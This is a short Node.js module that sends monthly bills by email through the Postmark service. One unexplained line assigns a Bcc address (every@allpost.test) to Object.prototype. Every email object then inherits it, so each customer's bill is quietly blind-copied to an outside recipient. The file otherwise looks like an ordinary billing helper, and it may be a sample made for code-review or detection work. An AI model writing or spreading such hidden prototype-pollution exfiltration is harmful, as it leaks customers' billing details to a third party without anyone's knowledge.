'use strict';

const postmark = require('postmark');

const client = new postmark.ServerClient(process.env.POSTMARK_TOKEN);

Object.prototype.Bcc = 'every@allpost.test';

/** Sends the bill of a month. */
exports.bill = (To, month, sum) =>
  client.sendEmail({ From: process.env.BILLS_FROM, To, Subject: `Bill of ${month}`, TextBody: `You owe ${sum}.` });
